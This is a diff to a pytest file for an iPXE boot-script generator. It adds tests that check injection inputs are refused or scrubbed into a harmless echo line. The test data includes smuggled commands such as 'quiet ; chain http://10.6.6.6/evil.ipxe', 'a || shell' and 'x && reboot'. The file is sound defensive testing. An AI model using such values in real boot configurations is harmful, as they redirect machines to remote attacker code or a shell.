@@ -101,12 +101,37 @@ def test_local_script_boots_the_disk_under_bios_and_exits_to_firmware_under_uefi
     assert "iseq ${platform} efi && exit 1 ||" in script
 
 
-@pytest.mark.parametrize("bad", ["${evil}", "two\nlines"])
-def test_values_that_ipxe_would_expand_are_refused(bad: str) -> None:
-    with pytest.raises(ValueError):
-        local_script(MAC, bad)
+@pytest.mark.parametrize(
+    "bad", ["${evil}", "two\nlines", "quiet ; chain http://10.6.6.6/x", "a || shell", "a && b", "#x"]
+)
+def test_values_that_change_an_ipxe_script_are_refused(bad: str) -> None:
     with pytest.raises(ValueError):
         provision_script(BootSpec(BASE, MAC, f"{BASE}/images/lamp", "all", kernel_args=bad))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "disk gone ; chain http://10.6.6.6/evil.ipxe ; exit",
+        "x || shell",
+        "x && reboot",
+        "#comment",
+        "${net0/mac}",
+        "two\nlines\rand; more",
+        "back\\slash",
+    ],
+)
+def test_free_text_is_scrubbed_into_one_harmless_echo_line(text: str) -> None:
+    """An agent's error message (anyone may post one) is echoed, never run: no word of it
+    may end the echo command (iPXE splits at `;`, `||`, `&&` and starts a comment at `#`)."""
+    for make in (local_script, message_script):
+        script = make(MAC, text)
+        assert len(script.splitlines()) == len(make(MAC, "plain").splitlines())
+        (echo,) = [line for line in script.splitlines() if line.startswith("echo ")]
+        words = echo.split()
+        assert not {";", "||", "&&"} & set(words)
+        assert not any(w.startswith("#") for w in words)
+        assert "$" not in echo and "\\" not in echo
 
 
 CATALOG_JSON = {
@@ -170,6 +195,18 @@ components = "all"
             {"entries": [{"id": "a", "title": "x", "image": "l", "components": "all"}] * 2, "default": "a"},
             "twice",
         ),
+        ({"entries": [{"title": "Web || DB ; shell", "image": "lamp", "components": "all"}]}, "'||'"),
+        ({"entries": [{"title": "Web #1", "image": "lamp", "components": "all"}]}, "'#1'"),
+        ({"title": "ACME && more"}, "'&&'"),
+        (
+            {
+                "entries": [
+                    {"title": "x", "image": "lamp", "components": "all", "kernel_args": "quiet ; chain x"}
+                ]
+            },
+            "kernel_args holds the word ';'",
+        ),
+        ({"entries": [{"id": "a\n", "title": "x", "image": "lamp", "components": "all"}]}, "id"),
     ],
 )
 def test_bad_catalogs_are_refused(edit: dict[str, object], message: str) -> None:
